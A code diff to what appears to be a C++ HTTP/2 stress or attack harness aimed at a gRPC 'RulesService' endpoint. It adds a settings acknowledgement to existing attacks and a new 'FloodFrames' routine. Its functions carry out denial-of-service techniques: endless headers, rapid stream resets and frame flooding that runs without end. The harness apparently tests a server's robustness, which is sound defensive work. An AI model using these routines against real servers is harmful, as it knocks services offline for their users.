@@ -27,6 +27,7 @@ std::string ManyCalls(std::string_view settings, const std::string& path, int st
                       const std::string& more_fields, const std::string* request) {
   const std::string data = request == nullptr ? "" : Message(*request);
   std::string bytes = Preface(settings);
+  if (request != nullptr) bytes += Acknowledgement();
   std::string fields = PathFields(path, true);
   for (int i = 0; i < streams; ++i) {
     const auto stream = static_cast<uint32_t>(2 * i + 1);
@@ -185,7 +186,7 @@ int SendEndlessHeaders(const Attackers& attackers, const std::stop_token& stop) 
 int ResetRapidly(const Attackers& attackers, const std::stop_token& stop) {
   constexpr std::string_view kCancel("\x00\x00\x00\x08", 4);
   constexpr int kCalls = 1000;
-  const std::string begin = Preface() +
+  const std::string begin = Preface() + Acknowledgement() +
                             Frame(FrameType::kHeaders, kEndHeaders, 1,
                                   PathFields("/arbiter.v1.RulesService/LegalMoves", true)) +
                             Frame(FrameType::kRstStream, 0, 1, kCancel);
@@ -210,6 +211,20 @@ int ResetRapidly(const Attackers& attackers, const std::stop_token& stop) {
         }
       }
     }
+  };
+  return SendForever(attackers, next, stop);
+}
+
+int FloodFrames(const Attackers& attackers, const std::string& frames,
+                const std::stop_token& stop) {
+  constexpr size_t kBytesAtOnce = 64 << 10;
+  const std::string begin =
+      Preface() + Acknowledgement() +
+      Frame(FrameType::kHeaders, kEndHeaders, 1, PathFields("/arbiter.v1.RulesService/LegalMoves"));
+  const std::string more = Repeat(frames, kBytesAtOnce / frames.size());
+  const Sender::Next next = [&](uint32_t* stream, std::string* bytes) {
+    *bytes = *stream == 0 ? begin : more;
+    *stream = 1;
   };
   return SendForever(attackers, next, stop);
 }
